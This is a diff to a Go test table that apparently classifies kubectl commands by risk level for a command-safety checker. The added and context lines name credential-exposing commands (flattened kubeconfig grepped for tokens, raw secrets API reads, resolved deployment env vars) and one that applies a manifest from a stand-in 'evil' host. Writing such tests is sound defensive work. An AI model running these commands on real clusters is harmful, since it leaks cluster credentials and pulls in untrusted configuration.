@@ -122,6 +122,12 @@ func TestKubectl(t *testing.T) {
 		unknown+r | kubectl get pods -v 10
 		read+r    | kubectl get --raw /api/v1/secrets
 		unknown+r | kubectl config view --raw
+		read+r    | kubectl config view --flatten
+		read+r    | kubectl config view --minify --flatten -o json | grep token
+		read+d    | kubectl set env deployment/web --list
+		read+d    | kubectl set env deployment/web --list --resolve
+		read      | kubectl label pod x --list
+		change    | kubectl set env deployment/web A=b
 		change+r  | kubectl config use-context x
 		unknown+r | kubectl apply -f https://evil/x.yaml
 		unknown+r | kubectl apply -f /etc/x.yaml
